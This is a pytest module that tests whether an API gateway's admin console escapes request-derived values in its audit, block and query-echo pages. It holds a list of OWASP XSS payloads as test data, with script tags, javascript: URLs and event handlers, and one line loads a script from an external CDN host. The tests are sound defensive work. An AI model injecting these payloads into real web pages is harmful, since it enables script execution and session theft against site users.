"""XSS against the console: values that came from requests are shown escaped on every page.

Payloads are examples from the OWASP XSS Filter Evasion Cheat Sheet (ids name the example). Each
is planted where an attacker can put text the console later shows: an audit record's path,
consumer, request id and decision (anything a client sends can end up in the trail), a security
event's actor and target, a block's subject and reason (typed by an operator who pasted them from
a log), and every query parameter a page echoes back into its form. The assertion is what a
browser would run: no element or attribute the page did not write itself (only the one
``<script src=/console/static/console.js>``, no ``on*`` handler, no ``javascript:`` URL), and the
payload's text visible as text. The legitimate traffic: ordinary values render as written.
"""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import quote

import pytest
from tests.conftest import Gateway, GatewayFactory, UpstreamServer, gateway_yaml
from tests.console_kit import ConsoleClient, sign_in

from portcullis.admin.app import create_admin_app
from portcullis.audit.record import AuditRecord
from portcullis.audit.security_event import security_event

# OWASP XSS Filter Evasion Cheat Sheet examples.
PAYLOADS = [
    pytest.param("<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
                 id="OWASP-basic-xss-test-without-filter-evasion"),
    pytest.param("<IMG SRC=\"javascript:alert('XSS');\">", id="OWASP-img-tag-using-javascript-directive"),
    pytest.param("\"><script>alert(String.fromCharCode(88,83,83))</script>", id="OWASP-attribute-breakout"),
    pytest.param("<IMG SRC=# onmouseover=\"alert('xxs')\">", id="OWASP-malformed-img-tags-onmouseover"),
    pytest.param("<SVG ONLOAD=alert(1)>", id="OWASP-svg-onload"),
    pytest.param("'';!--\"<XSS>=&{()}", id="OWASP-xss-locator-short"),
    pytest.param("<BODY ONLOAD=alert('XSS')>", id="OWASP-body-tag"),
    pytest.param("<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>", id="OWASP-iframe"),
    pytest.param("<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>", id="OWASP-embedded-tab-entity"),
]

CONFIG = """
routes:
  - {name: orders, path: "/orders/{order_id}", upstream: api}
"""


_URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "data", "xlink:href"})


class _Page(HTMLParser):
    """What a browser would build from a page: its elements, attributes and text."""

    def __init__(self) -> None:
        super().__init__()
        self.foreign: list[str] = []
        self.text: list[str] = []
        self.bodies = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script" and dict(attrs).get("src") != "/console/static/console.js":
            self.foreign.append(f"script {attrs}")
        self.bodies += tag == "body"
        if tag in ("img", "svg", "iframe", "xss") or self.bodies > 1 or (
                tag == "a" and any(n == "href" and v and not v.startswith("/console") for n, v in attrs)):
            self.foreign.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (name in _URL_ATTRIBUTES and value and "javascript:" in value.lower()):
                self.foreign.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _check(html: str, shown: str | None = None) -> None:
    page = _Page()
    page.feed(html)
    page.close()
    assert page.foreign == []
    if shown is not None:
        assert shown in "".join(page.text)  # visible, as text


async def _console(make_gateway: GatewayFactory, upstream: UpstreamServer) -> tuple[Gateway, ConsoleClient]:
    gw = await make_gateway(gateway_yaml(upstream.url, CONFIG).replace("admin: {enabled: false}\n", "", 1))
    return gw, await sign_in(create_admin_app(gw.app), await gw.admin_token("security"))


def _plant(gw: Gateway, payload: str) -> None:
    audit = gw.runtime.services.audit
    audit.submit(AuditRecord.create(
        clock=gw.clock, request_id=payload, client_ip="203.0.113.7", consumer_id=payload, key_id=None, method="GET",
        route="orders", path=f"/orders/{payload}", query=None, status=404, decision=payload, latency_ms=1.0,
        bytes_in=0, bytes_out=0, upstream_status=None, user_agent=payload))
    audit.submit(security_event(clock=gw.clock, action="admin.auth", outcome="refused", actor=payload, role=None,
                                target=payload, client_ip="203.0.113.7", request_id="r1", status=401,
                                path=payload, reason=payload))


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_audit_fields_are_escaped_on_the_audit_page(
    make_gateway: GatewayFactory, upstream: UpstreamServer, payload: str
) -> None:
    gw, console = await _console(make_gateway, upstream)
    _plant(gw, payload)
    await gw.services.audit.flush()
    for query in ("?class=request&route=orders", "?class=security&decision=", f"?request_id={quote(payload)}"):
        answer = await console.http.get(f"/console/audit{query}")
        assert answer.status_code == 200
        _check(answer.text, payload if "request_id" not in query else None)
    assert payload not in answer.text  # present only escaped (the form echoes it back)


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_a_block_made_from_a_pasted_payload_is_escaped(
    make_gateway: GatewayFactory, upstream: UpstreamServer, payload: str
) -> None:
    _, console = await _console(make_gateway, upstream)
    made = await console.post("/console/blocks", {"kind": "user", "subject": payload[:128], "reason": payload})
    assert made.status_code == 303
    page = await console.http.get("/console/blocks")
    _check(page.text, payload)
    assert payload not in page.text


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("path", ["/console/breakers?changed=", "/console/keys?consumer=",
                                  "/console/budgets?route=", "/console/audit?route="])
async def test_query_parameters_echoed_by_a_page_are_escaped(
    make_gateway: GatewayFactory, upstream: UpstreamServer, payload: str, path: str
) -> None:
    _, console = await _console(make_gateway, upstream)
    answer = await console.http.get(path + quote(payload))
    _check(answer.text)  # echoed escaped in a form field or a notice, or refused as too long
    assert payload not in answer.text


async def test_ordinary_values_render_as_written(make_gateway: GatewayFactory, upstream: UpstreamServer) -> None:
    gw, console = await _console(make_gateway, upstream)
    _plant(gw, "order-42 for acme")
    await gw.services.audit.flush()
    answer = await console.http.get("/console/audit?class=request&route=orders")
    assert "/orders/order-42 for acme" in answer.text and "order-42 for acme" in answer.text
